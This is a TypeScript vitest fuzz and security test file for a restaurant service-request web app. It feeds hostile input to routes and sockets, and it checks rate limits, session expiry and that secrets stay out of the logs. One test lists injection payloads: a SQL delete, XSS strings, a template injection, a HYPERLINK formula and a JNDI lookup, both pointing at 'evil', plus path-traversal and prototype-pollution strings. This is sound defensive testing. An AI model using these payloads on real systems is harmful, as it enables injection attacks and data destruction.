import { isDeepStrictEqual } from 'node:util'
import { sql } from 'kysely'
import { beforeAll, describe, expect, it } from 'vitest'
import { api } from '#contract/api.ts'
import { maliciousTexts, maliciousValues } from '../../fuzz/malicious.ts'
import { write } from '../../src/server/core/transaction.ts'
import { password, startTestApp, type TestResponse } from '../support/app.ts'
import { fieldsOf } from '../support/contract-fields.ts'
import {
  atNoon,
  check,
  messages,
  named,
  pathOf,
  routes,
  send,
  setUpMaliciousCalls,
  withBody,
} from '../support/malicious-calls.ts'
import { uniqueAddress } from '../support/restaurants/logins.ts'

const minutes = 60_000

const malicious = setUpMaliciousCalls()
const { app, call, base, screen, tell } = malicious

/** Refused calls changed nothing of the restaurant. */
async function unchanged(work: () => Promise<TestResponse<unknown>[]>): Promise<void> {
  const before = await malicious.snapshot()
  const answers = await work()
  if (answers.some(({ status }) => status < 400)) return
  if (!isDeepStrictEqual(await malicious.snapshot(), before))
    throw new Error('A refused call changed something')
}

describe('a body', () => {
  it.for(named(withBody))('of %s may have anything in any field', async ([name, route]) => {
    const fields = [...new Set(fieldsOf(route.body))]
    expect(fields.length).toBeGreaterThan(0)
    for (const field of fields) {
      await unchanged(async () => {
        const answers: TestResponse<unknown>[] = []
        for (const value of maliciousValues) {
          const body = { ...base(fields), [field]: value }
          const answer = await call(route, body)
          check(`${name} ${field}: ${JSON.stringify(value)}`, answer)
          answers.push(answer)
        }
        return answers
      })
    }
  })
})

describe('an address', () => {
  it.for(named(routes.filter(({ params }) => params)))('of %s may name anything', async ([name, route]) => {
    await unchanged(async () => {
      const answers: TestResponse<unknown>[] = []
      for (const value of [...maliciousTexts, '..', '.', '../crew', 'a/b', '%']) {
        // A lone surrogate cannot be encoded: a browser sends its replacement character.
        const path = pathOf(route, value.toWellFormed())
        answers.push(await call(route, route.body ? {} : undefined, path))
        const answer = answers.at(-1)
        if (answer) check(`${name} ${value}`, answer)
      }
      return answers
    })
  })

  it.for(named(routes.filter(({ query }) => query)))('of %s may have any query', async ([name, route]) => {
    const fields = fieldsOf(route.query)
    const good = new URLSearchParams(base(fields) as Record<string, string>)
    for (const field of fields) {
      for (const value of maliciousTexts) {
        const query = new URLSearchParams(good)
        query.set(field, value)
        check(`${name} ${field}: ${value}`, await call(route, undefined, `${pathOf(route)}?${query}`))
      }
      const twice = new URLSearchParams([...good, [field, 'true'], [field, 'true']])
      const path = `${pathOf(route)}?${twice}`
      check(`${name} ${field}`, await call(route, undefined, path), [400])
    }
    for (const query of ['__proto__[a]=b', 'a[b]=c', '%', '%ff=%ff', '=&&=', 'x'.repeat(8_000)]) {
      check(`${name} ?${query}`, await call(route, undefined, `${pathOf(route)}?${query}`))
    }
  })

  it('that does not exist is refused in the same way', async () => {
    for (const path of [
      '/api/crew/%',
      '/api/crew/%zz',
      '/api/crew/%c0%ae',
      `/api/crew/${'x'.repeat(2_000)}`,
      '/api/no-such-call',
      '/api',
      '/api//crew',
      '/API/crew',
      '/api/crew/a/b/c',
      '/%00',
      '/no-such-page',
    ]) {
      for (const method of ['GET', 'POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS']) {
        check(`${method} ${path}`, await send(malicious.tenant.owner, method, path), [400, 404])
      }
    }
  })

  it.for(['/%', '/%E0%A4%A', '/%zz?a=%', '/assets/%ff', '/waiter/%c0%ae'])(
    'is the page for it in a browser: %s',
    async (path) => {
      const response = await app.browser().fetch(path, { headers: { accept: 'text/html' } })
      expect(response.headers.get('content-type')).toBe('text/html; charset=utf-8')
      expect(response.headers.get('content-security-policy')).toContain("default-src 'none'")
      expect(await response.text()).toContain('<div id="root">')
    },
  )
})

describe('a live message', () => {
  // Earlier calls may have changed any setting.
  beforeAll(() =>
    malicious.tenant.owner.ok(api.restaurant.change, { body: { verifiedOnly: false, pinRequired: false } }),
  )

  it.for(messages)('%s may have anything in any field', async ([type, fields]) => {
    const socket = await screen()
    for (const field of fields.filter((field) => field !== 'ref')) {
      const before = await malicious.snapshot()
      let taken = 0
      for (const value of maliciousValues) {
        const answer = await tell(socket, { ...base([...fields]), type, [field]: value })
        check(`${type} ${field}: ${JSON.stringify(value)}`, answer)
        if (answer.status === 200) taken++
      }
      if (taken === 0 && !isDeepStrictEqual(await malicious.snapshot(), before))
        throw new Error('A refused call changed something')
    }
    socket.close()
  })
})

describe('a text', () => {
  const payloads = [
    `'; delete from restaurant; --`,
    '<script>alert(1)</script>',
    '"><img src=x onerror=alert(1)>',
    '</script><svg onload=alert(1)>',
    '{{constructor.constructor("alert(1)")()}}',
    'javascript:alert(1)//',
    '=HYPERLINK("http://evil")',
    '${jndi:ldap://evil}',
    '%s%s%n',
    '😀 Ünïcödé 東京',
  ]

  it.for(payloads)('such as %s is kept unchanged, and is treated only as text', async (payload) => {
    const owner = app.browser()
    const signUp = { restaurantName: payload, email: 'a@example.com', password }
    expect((await send(owner, 'POST', '/api/restaurant-signup', signUp)).body).toEqual({
      restaurantName: payload,
    })
    const table = payload.slice(0, 40).trim()
    expect(await owner.ok(api.floor.addTable, { body: { tableNumber: table } })).toMatchObject({
      tableNumber: table,
    })
    const [from, to] = [
      await owner.ok(api.crew.add, { body: { name: payload, role: 'Server' } }),
      await owner.ok(api.crew.add, { body: { name: 'Tom', role: 'Server' } }),
    ]
    expect(from.name).toBe(payload)
    await owner.ok(api.managers.setCredentials, { body: { username: payload, password } })
    expect(await owner.ok(api.managers.currentUser, {})).toMatchObject({
      restaurantName: payload,
      managerUsername: payload,
    })
    const socket = await owner.connect()
    await socket.request({ type: 'set-crew-member-context', crewMemberId: from.id })
    expect(
      await socket.request({ type: 'send-team-message', targetCrewId: to.id, messageText: payload }),
    ).toMatchObject({
      message: { messageText: payload, senderCrewName: payload, restaurantId: payload },
    })
    const guest = app.browser()
    await guest.ok(api.requests.send, {
      body: { restaurantId: payload, tableNumber: table, serviceType: 'check' },
    })
    const query = new URLSearchParams({ r: payload, t: table, k: payload })
    const html = await (await guest.fetch(`/customer?${query}`)).text()
    expect(html).not.toMatch(/<script>alert|<img src=x|<svg onload/u)
    const wrong = new URLSearchParams({ r: payload, t: `${table.slice(0, 30)} 2` })
    expect(await (await guest.fetch(`/customer?${wrong}`)).text()).not.toMatch(
      /<script>alert|<img src=x|<svg onload/u,
    )
    expect(
      await app.ctx.db.reader
        .selectFrom('restaurant')
        .select('id')
        .where('id', '=', malicious.tenant.id)
        .execute(),
    ).toHaveLength(1)
  })

  it('with NUL or half a character is refused', async () => {
    const { owner, name, colleague } = malicious.tenant
    const wrong = { status: 400, body: { code: 'invalid', message: 'Please use only visible characters' } }
    const login = (body: object, path: string) => send(app.browser(), 'POST', path, body)
    for (const bad of ['a\0b', 'a\ud800b']) {
      expect(await login({ restaurantName: bad, password }, '/api/restaurant-login')).toMatchObject(wrong)
      for (const path of ['/api/demo-login', '/api/waiter-login', '/api/management-login']) {
        expect(await login({ restaurantName: name, username: bad, password }, path)).toMatchObject(wrong)
      }
      expect(await login({ restaurantId: bad, tableNumber: '1' }, '/api/service-requests')).toMatchObject(
        wrong,
      )
      const credentials = { username: bad, password }
      expect(await owner.call(api.managers.setCredentials, { body: credentials })).toMatchObject(wrong)
    }
    expect(await send(owner, 'GET', '/api/check-manager-credentials/a%00b')).toMatchObject(wrong)
    expect(await send(owner, 'GET', '/api/crew-by-restaurant?restaurantId=a%00b')).toMatchObject(wrong)
    const socket = await screen()
    const message = { type: 'send-team-message', targetCrewId: colleague.id, messageText: 'a\0b' } as const
    expect(await socket.request(message)).toMatchObject({ code: 'invalid' })
    for (const path of [
      '/customer?r=a%00b',
      '/customer?r=a%00b&t=1',
      `/customer?r=Harbour+Kitchen&t=%00&k=%00`,
    ]) {
      expect((await app.browser().fetch(path)).status).toBe(200)
    }
    const form = new URLSearchParams({
      r: 'a\0b',
      t: '\0',
      id: '\0',
      k: '\0',
      serviceType: '\0',
      action: '\0',
    })
    const posted = await app.browser().fetch('/customer', { method: 'POST', body: form })
    expect(posted.status).toBeLessThan(500)
  })
})

describe('a guest', () => {
  const request = (body: object, browser = app.browser(), address = uniqueAddress()) =>
    browser
      .fetch('/api/service-requests', {
        method: 'POST',
        headers: { 'content-type': 'application/json', 'x-forwarded-for': address },
        body: JSON.stringify(body),
      })
      .then(async (response) => ({
        status: response.status,
        body: (await response.json()) as { code?: string; message?: string },
        wait: response.headers.get('retry-after'),
      }))

  it('learns what does not exist', async () => {
    expect(await request({ restaurantId: 'No Such Place', tableNumber: '1' })).toMatchObject({
      status: 404,
      body: { code: 'not_found', message: 'Restaurant not found' },
    })
    expect(await request({ restaurantId: malicious.tenant.name, tableNumber: '99' })).toMatchObject({
      status: 404,
      body: { message: "We couldn't find table 99. Please check the number on your table." },
    })
    // There are several restaurants here, and none is configured as the default.
    for (const restaurantId of ['default', ' DEFAULT ', undefined]) {
      expect(await request({ restaurantId, tableNumber: '1' })).toMatchObject({ status: 404 })
    }
    const guest = await app.browser().connect()
    expect(
      await guest.request({ type: 'service-request', restaurantId: 'No Such Place', tableNumber: '1' }),
    ).toMatchObject({ type: 'error', code: 'not_found', message: 'Restaurant not found' })
  })

  it.for(['champagne', '', null, 7, {}, ['check'], 'CHECK', '__proto__'])(
    'who asks for %j calls a waiter',
    async (serviceType) => {
      const { name } = await app.restaurant()
      expect(await request({ restaurantId: name, tableNumber: '1', serviceType })).toMatchObject({
        status: 201,
        body: { request: { serviceType: 'general' } },
      })
    },
  )

  it('learns that the 3 hours are over', async () => {
    const guest = app.browser()
    const { name } = await app.restaurant()
    const body = { restaurantId: name, tableNumber: '1' }
    expect((await request(body, guest)).status).toBe(201)
    app.advance(179 * minutes)
    expect((await request({ ...body, serviceType: 'food' }, guest)).status).toBe(201)
    app.advance(1 * minutes + 1)
    expect(await request({ ...body, serviceType: 'check' }, guest)).toMatchObject({
      status: 410,
      body: {
        code: 'visit_expired',
        message:
          'Your session has expired after 3 hours. Please scan the QR code again or reset your session to continue.',
      },
    })
    expect((await request({ ...body, tableNumber: '2' }, guest)).status).toBe(201)
    const reset = new URLSearchParams({ r: name, t: '1', action: 'reset' })
    await guest.fetch('/customer', { method: 'POST', body: reset })
    expect((await request({ ...body, serviceType: 'check' }, guest)).status).toBe(201)
  })

  const often =
    /^You have asked many times in a short while\. Please wait \d+ (second|minute)s? and try again\.$/u
  const busy = /^Many requests are arriving right now\. Please wait \d+ (second|minute)s? and try again\.$/u

  function expectLimit(
    answer: Awaited<ReturnType<typeof request>>,
    words: RegExp,
    withinSeconds: number,
  ): void {
    const message: unknown = expect.stringMatching(words)
    expect(answer).toMatchObject({ status: 429, body: { code: 'rate_limited', message } })
    expect(Number(answer.wait)).toBeGreaterThan(withinSeconds / 2)
    expect(Number(answer.wait)).toBeLessThanOrEqual(withinSeconds)
  }

  it('may send 12 requests in 10 minutes, repeats not counted', async () => {
    const guest = app.browser()
    const { name } = await app.restaurant()
    const at = (table: number) => request({ restaurantId: name, tableNumber: String(table) }, guest)
    for (let table = 1; table <= 12; table++) expect((await at(table)).status).toBe(201)
    expectLimit(await at(13), often, 600)
    expect((await at(12)).status).toBe(200)
    app.advance(10 * minutes)
    expect((await at(13)).status).toBe(201)
  })

  it('shares 20 requests in 10 minutes with the table', async () => {
    const { name, device } = await app.restaurant()
    const crew = await device.connect()
    const once = async () => {
      app.advance(100)
      const answer = await request({ restaurantId: name, tableNumber: 'x' })
      if ('request' in answer.body) {
        await crew.request({ type: 'complete-request', id: (answer.body.request as { id: string }).id })
      }
      return answer
    }
    for (let n = 0; n < 20; n++) expect((await once()).status).toBe(201)
    expectLimit(await once(), often, 600)
    expect((await request({ restaurantId: name, tableNumber: 'y' })).status).toBe(201)
  })

  const many = (length: number, ask: (n: number) => ReturnType<typeof request>) =>
    Promise.all(Array.from({ length }, (_, n) => ask(n))).then((answers) =>
      answers.filter(({ status }) => status === 201),
    )

  it('shares 240 requests a minute with the restaurant', async () => {
    const { name } = await app.restaurant()
    const at = (table: number) => request({ restaurantId: name, tableNumber: `t${table}` })
    expect(await many(240, at)).toHaveLength(240)
    expectLimit(await at(240), busy, 60)
    app.advance(1 * minutes)
    expect((await at(240)).status).toBe(201)
  })

  it('shares 600 requests in 10 minutes with the address, or with the /64 of an IPv6 one', async () => {
    const names = [await app.restaurant(), await app.restaurant(), await app.restaurant()].map(
      ({ name }) => name,
    )
    const at = (table: number, address = `2001:db8:7:7::${(table + 1).toString(16)}`) =>
      request({ restaurantId: names[table % 3], tableNumber: `t${table}` }, app.browser(), address)
    expect(await many(600, at)).toHaveLength(600)
    expectLimit(await at(600, '2001:db8:7:7:ffff:ffff:ffff:ffff'), busy, 600)
    expect((await at(600, '2001:db8:7:8::1')).status).toBe(201)
  })
})

describe('a secret', () => {
  const canary = 'canary-7f3a'
  const pin = '73914682'

  it('appears in no line of the log, not even when the database fails', async () => {
    const watched = await startTestApp(atNoon)
    const owner = watched.browser()
    const names = { restaurantName: 'Watched', email: 'a@example.com' }
    const secret = `${canary}-password`
    await owner.ok(api.accounts.signUp, { body: { ...names, password: secret } })
    await owner.send('POST', '/api/restaurant-login', {
      restaurantName: 'Watched',
      password: `${canary}-wrong`,
    })
    await owner.send('POST', '/api/restaurant-login', `{"password":"${canary}`)
    const { id } = await owner.ok(api.crew.add, { body: { name: 'Maya', role: 'Server' } })
    const { id: tom } = await owner.ok(api.crew.add, { body: { name: 'Tom', role: 'Server' } })
    await owner.ok(api.crew.change, { params: { id }, body: { pin, username: 'maya', password: secret } })
    await owner.ok(api.managers.setCredentials, { body: { username: 'boss', password: secret } })
    const k = `1.${canary}`
    await owner.call(api.requests.send, { body: { restaurantId: 'Watched', tableNumber: '1', k } })
    await owner.fetch(`/customer?r=Watched&t=1&k=${k}`)
    await owner.fetch(`/api/demo-crew/${canary}`)
    await owner.fetch(`/t/${canary}`)
    const socket = await owner.connect()
    await socket.request({ type: 'set-crew-member-context', crewMemberId: id, pin })
    const message = { type: 'send-team-message', targetCrewId: tom, messageText: `${canary} text` } as const
    expect(await socket.request(message)).toMatchObject({ type: 'ack' })
    socket.sendRaw(`{"type":"send-team-message","messageText":"${canary}`)
    await socket.next('error')

    await write(watched.ctx, ({ db }) => sql`alter table team_message rename to gone`.execute(db))
    await write(watched.ctx, ({ db }) => sql`alter table manager rename to gone_too`.execute(db))
    expect(await socket.request(message)).toEqual({
      type: 'error',
      ref: expect.any(String),
      code: 'internal',
      message: 'Something went wrong',
    })
    const failed = await owner.call(api.managers.setCredentials, {
      body: { username: 'boss', password: secret },
    })
    expect(failed).toMatchObject({ status: 500, body: { code: 'internal', message: 'Something went wrong' } })

    const log = watched.lines.join('\n')
    expect(watched.lines.filter((line) => line.includes('"level":"error"'))).toHaveLength(2)
    expect([canary, pin, ...owner.cookies.values()].filter((secret) => log.includes(secret))).toEqual([])
    // These two were requested.
    watched.lines.length = 0
    await watched.stop()
  })

  it('is never sent to a forged address', async () => {
    const direct = await startTestApp(atNoon)
    const statuses: number[] = []
    for (let n = 0; n < 6; n++) {
      const response = await direct.browser().fetch('/api/restaurant-login', {
        method: 'POST',
        headers: { 'content-type': 'application/json', 'x-forwarded-for': `10.2.3.${n}` },
        body: JSON.stringify({ restaurantName: 'Anywhere', password: 'wrong-password' }),
      })
      statuses.push(response.status)
    }
    expect(statuses).toEqual([401, 401, 401, 401, 401, 429])
    await direct.stop()
  })
})
